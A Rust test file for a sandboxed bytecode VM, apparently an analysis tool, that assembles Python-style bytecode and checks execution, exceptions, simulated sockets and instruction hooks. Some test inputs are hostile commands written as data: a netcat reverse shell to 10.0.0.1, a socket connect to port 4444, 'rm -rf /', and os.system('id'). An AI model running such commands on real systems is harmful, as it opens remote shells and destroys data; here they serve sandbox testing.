//! End-to-end tests: assemble bytecode and execute it in the VM.

use std::cell::RefCell;
use std::rc::Rc;
use taintwatch_core::asm::assemble;
use taintwatch_core::host::{Host, InstructionHook};
use taintwatch_core::{Instruction, OpCode, Value};
use taintwatch_vm::{Effect, Sandbox, Vm, VmError};

/// Helper: assemble `source`, run it as `__main__`, return the result.
fn run_main(source: &str) -> Value {
    let code = assemble(source, "main.py").expect("source should assemble");
    let mut vm = Vm::new();
    vm.run(code).expect("main should execute")
}

/// Helper: run with a sandbox and return the VM for inspection.
fn run_in(sandbox: Sandbox, source: &str) -> (Vm, Result<Value, VmError>) {
    let code = assemble(source, "main.py").expect("source should assemble");
    let mut vm = Vm::with_sandbox(sandbox);
    let result = vm.run(code);
    (vm, result)
}

// ─── Arithmetic and names ───

#[test]
fn e2e_store_and_load_names() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST 10
    STORE_NAME x
    LOAD_NAME x
    LOAD_CONST 3
    BINARY_SUBTRACT
    RETURN_VALUE
"#,
    );
    assert_eq!(result, Value::Int(7));
}

#[test]
fn e2e_string_building() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST "nc -e /bin/sh "
    LOAD_CONST "10.0.0.1"
    BUILD_STRING 2
    RETURN_VALUE
"#,
    );
    assert_eq!(result, Value::str("nc -e /bin/sh 10.0.0.1"));
}

// ─── Functions ───

#[test]
fn e2e_function_call_with_default() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST (5,)
    LOAD_CONST code:add
    LOAD_CONST "add"
    MAKE_FUNCTION 1
    STORE_NAME add
    LOAD_NAME add
    LOAD_CONST 1
    CALL_FUNCTION 1
    RETURN_VALUE
.end

.code add
.args a b
    LOAD_FAST a
    LOAD_FAST b
    BINARY_ADD
    RETURN_VALUE
.end
"#,
    );
    assert_eq!(result, Value::Int(6));
}

#[test]
fn e2e_keyword_call() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST code:sub
    LOAD_CONST "sub"
    MAKE_FUNCTION 0
    STORE_NAME sub
    LOAD_NAME sub
    LOAD_CONST 1
    LOAD_CONST 10
    LOAD_CONST ("a",)
    CALL_FUNCTION_KW 2
    RETURN_VALUE
.end

.code sub
.args a b
    LOAD_FAST a
    LOAD_FAST b
    BINARY_SUBTRACT
    RETURN_VALUE
.end
"#,
    );
    assert_eq!(result, Value::Int(9));
}

#[test]
fn e2e_runaway_recursion_is_fatal() {
    let code = assemble(
        r#"
.code <module>
    LOAD_CONST code:f
    LOAD_CONST "f"
    MAKE_FUNCTION 0
    STORE_NAME f
    LOAD_NAME f
    CALL_FUNCTION 0
    RETURN_VALUE
.end

.code f
    LOAD_GLOBAL f
    CALL_FUNCTION 0
    RETURN_VALUE
.end
"#,
        "main.py",
    )
    .unwrap();
    let mut vm = Vm::new();
    assert!(matches!(vm.run(code), Err(VmError::StackOverflow(_))));
}

// ─── Control flow ───

#[test]
fn e2e_for_loop_sums_range() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST 0
    STORE_NAME total
    LOAD_NAME range
    LOAD_CONST 5
    CALL_FUNCTION 1
    GET_ITER
loop:
    FOR_ITER @done
    STORE_NAME i
    LOAD_NAME total
    LOAD_NAME i
    INPLACE_ADD
    STORE_NAME total
    JUMP_ABSOLUTE @loop
done:
    LOAD_NAME total
    RETURN_VALUE
"#,
    );
    assert_eq!(result, Value::Int(10));
}

#[test]
fn e2e_conditional_branch() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST 3
    LOAD_CONST 4
    COMPARE_OP <
    POP_JUMP_IF_FALSE @else
    LOAD_CONST "less"
    RETURN_VALUE
else:
    LOAD_CONST "more"
    RETURN_VALUE
"#,
    );
    assert_eq!(result, Value::str("less"));
}

#[test]
fn e2e_unpack_sequence_order() {
    let result = run_main(
        r#"
.code <module>
    LOAD_CONST ("host", 4444)
    UNPACK_SEQUENCE 2
    STORE_NAME host
    STORE_NAME port
    LOAD_NAME port
    RETURN_VALUE
"#,
    );
    assert_eq!(result, Value::Int(4444));
}

// ─── Exceptions ───

#[test]
fn e2e_try_except_catches_matching_error() {
    let result = run_main(
        r#"
.code <module>
    SETUP_FINALLY @handler
    LOAD_CONST 0
    LOAD_CONST None
    IMPORT_NAME nosuchmodule
    STORE_NAME m
    POP_BLOCK
    LOAD_CONST "imported"
    RETURN_VALUE
handler:
    DUP_TOP
    LOAD_NAME ImportError
    JUMP_IF_NOT_EXC_MATCH @reraise
    POP_TOP
    POP_TOP
    POP_TOP
    POP_EXCEPT
    LOAD_CONST "fallback"
    RETURN_VALUE
reraise:
    RERAISE
"#,
    );
    assert_eq!(result, Value::str("fallback"));
}

#[test]
fn e2e_unmatched_handler_reraises() {
    let code = assemble(
        r#"
.code <module>
    SETUP_FINALLY @handler
    LOAD_CONST 1
    LOAD_CONST 0
    BINARY_TRUE_DIVIDE
    POP_BLOCK
    RETURN_VALUE
handler:
    DUP_TOP
    LOAD_NAME KeyError
    JUMP_IF_NOT_EXC_MATCH @reraise
    POP_TOP
    POP_TOP
    POP_TOP
    POP_EXCEPT
    LOAD_CONST None
    RETURN_VALUE
reraise:
    RERAISE
"#,
        "main.py",
    )
    .unwrap();
    let mut vm = Vm::new();
    let err = vm.run(code).unwrap_err();
    assert!(err.to_string().contains("ZeroDivisionError"), "got {}", err);
}

// ─── Natives ───

#[test]
fn e2e_print_and_input() {
    let (vm, result) = run_in(
        Sandbox::default().with_stdin(["whoami"]),
        r#"
.code <module>
    LOAD_NAME print
    LOAD_CONST "cmd:"
    LOAD_NAME input
    CALL_FUNCTION 0
    CALL_FUNCTION 2
    RETURN_VALUE
"#,
    );
    assert_eq!(result.unwrap(), Value::None);
    assert_eq!(vm.output(), &["cmd: whoami".to_string()]);
}

#[test]
fn e2e_socket_round_trip_is_simulated() {
    let (vm, result) = run_in(
        Sandbox::default(),
        r#"
.code <module>
    LOAD_CONST 0
    LOAD_CONST None
    IMPORT_NAME socket
    STORE_NAME socket
    LOAD_NAME socket
    LOAD_METHOD socket
    CALL_METHOD 0
    STORE_NAME s
    LOAD_NAME s
    LOAD_METHOD connect
    LOAD_CONST ("10.0.0.1", 4444)
    CALL_METHOD 1
    POP_TOP
    LOAD_NAME s
    LOAD_METHOD fileno
    CALL_METHOD 0
    RETURN_VALUE
"#,
    );
    assert_eq!(result.unwrap(), Value::Int(3));
    assert_eq!(vm.effects()[0].call, "socket.socket.connect");
}

#[test]
fn e2e_import_returns_the_module() {
    let code = assemble(
        ".code m\n LOAD_CONST 0\n LOAD_CONST None\n IMPORT_NAME os\n RETURN_VALUE\n",
        "main.py",
    )
    .unwrap();
    let mut vm = Vm::new();
    assert!(matches!(vm.run(code).unwrap(), Value::Module(m) if m.name == "os"));
}

// ─── Hooks ───

/// Skips every `CALL_FUNCTION`, pushing a marker in place of the result.
struct CallEater {
    seen: Rc<RefCell<Vec<OpCode>>>,
}

impl InstructionHook for CallEater {
    fn pre_instruction(&mut self, host: &mut dyn Host, instr: &Instruction) -> usize {
        self.seen.borrow_mut().push(instr.op);
        if instr.op != OpCode::CallFunction {
            return 0;
        }
        let Some(frame) = host.current_mut() else { return 0 };
        let keep = frame.stack.len() - instr.arg as usize - 1;
        frame.stack.truncate(keep);
        frame.stack.push(Value::str("eaten"));
        1
    }
}

#[test]
fn e2e_hook_can_replace_a_call() {
    let code = assemble(
        r#"
.code <module>
    LOAD_CONST None
    LOAD_CONST "rm -rf /"
    CALL_FUNCTION 1
    RETURN_VALUE
"#,
        "main.py",
    )
    .unwrap();
    let seen = Rc::new(RefCell::new(Vec::new()));
    let mut hook = CallEater { seen: Rc::clone(&seen) };
    let mut vm = Vm::new();
    // calling None would raise; the hook answers first
    let result = vm.run_main(code, &mut hook).unwrap();
    assert_eq!(result, Value::str("eaten"));
    assert_eq!(*seen.borrow(), vec![OpCode::LoadConst, OpCode::LoadConst, OpCode::CallFunction, OpCode::ReturnValue]);
}

struct StopAtFirst;

impl InstructionHook for StopAtFirst {
    fn pre_instruction(&mut self, _host: &mut dyn Host, _instr: &Instruction) -> usize {
        0
    }

    fn terminated(&self) -> bool {
        true
    }
}

#[test]
fn e2e_terminated_hook_stops_before_any_effect() {
    let code = assemble(
        ".code m\n LOAD_CONST 0\n LOAD_CONST None\n IMPORT_NAME os\n LOAD_METHOD system\n LOAD_CONST \"id\"\n CALL_METHOD 1\n RETURN_VALUE\n",
        "main.py",
    )
    .unwrap();
    let mut vm = Vm::new();
    let err = vm.run_main(code, &mut StopAtFirst).unwrap_err();
    assert!(err.is_terminated());
    assert_eq!(vm.effects(), &[] as &[Effect]);
}

/// Skips the instruction after every `NOP` once it has run.
struct SkipAfterNop;

impl InstructionHook for SkipAfterNop {
    fn pre_instruction(&mut self, _host: &mut dyn Host, _instr: &Instruction) -> usize {
        0
    }

    fn post_instruction(&mut self, _host: &mut dyn Host, instr: &Instruction) -> usize {
        usize::from(instr.op == OpCode::Nop)
    }
}

#[test]
fn e2e_post_instruction_skip_applies_after_the_step() {
    let code = assemble(
        ".code m\n LOAD_CONST \"kept\"\n NOP\n LOAD_CONST \"skipped\"\n RETURN_VALUE\n",
        "main.py",
    )
    .unwrap();
    let mut vm = Vm::new();
    assert_eq!(vm.run_main(code, &mut SkipAfterNop).unwrap(), Value::str("kept"));
}
